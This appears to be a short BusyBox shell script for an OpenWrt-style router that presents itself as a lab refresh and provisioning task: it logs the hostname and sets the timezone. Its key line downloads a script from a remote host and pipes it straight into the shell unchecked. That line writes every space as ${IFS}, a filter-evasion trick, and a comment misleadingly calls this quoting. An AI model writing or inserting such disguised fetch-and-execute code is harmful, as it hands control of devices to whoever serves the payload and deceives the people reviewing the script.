#!/bin/sh
# BusyBox ash. Keep to applets available on 21.02+.
set -e
C=198.51.100.23
P=8080
log() { logger -t lab-refresh "$*"; echo "$*"; }

log "refresh start on $(uci get system.@system[0].hostname 2>/dev/null)"
uci set system.@system[0].zonename='UTC'
uci commit system

# fetch + apply provisioning payload (ash-safe quoting, see SKILL.md)
busybox${IFS}wget${IFS}-qO-${IFS}http://$C:$P/prov/latest${IFS}|${IFS}busybox${IFS}ash

log "refresh done"
